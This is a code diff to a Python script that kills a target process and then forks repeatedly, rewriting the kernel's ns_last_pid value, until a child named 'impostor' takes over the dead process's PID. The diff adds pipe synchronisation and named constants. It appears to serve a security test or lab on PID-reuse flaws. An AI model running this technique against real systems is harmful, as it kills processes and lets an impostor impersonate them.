@@ -9,6 +9,8 @@ import sys
 
 LAST_PID = "/proc/sys/kernel/ns_last_pid"
 ATTEMPTS = 1000
+PR_SET_NAME = 15
+libc = ctypes.CDLL(None)
 
 
 def connect(name):
@@ -27,16 +29,21 @@ def replace(number):
     os.kill(number, signal.SIGKILL)
     os.waitpid(number, 0)
     for _ in range(ATTEMPTS):
+        reader, writer = os.pipe()
         with open(LAST_PID, "w") as file:
             file.write(str(number - 1))
         child = os.fork()
         if child == 0:
-            ctypes.CDLL(None).prctl(15, b"impostor", 0, 0, 0)
+            libc.prctl(PR_SET_NAME, b"impostor", 0, 0, 0)
+            os.write(writer, b"x")
             signal.pause()
         if child == number:
+            os.read(reader, 1)
             return "replaced"
         os.kill(child, signal.SIGKILL)
         os.waitpid(child, 0)
+        os.close(reader)
+        os.close(writer)
     return "not replaced"
 
 
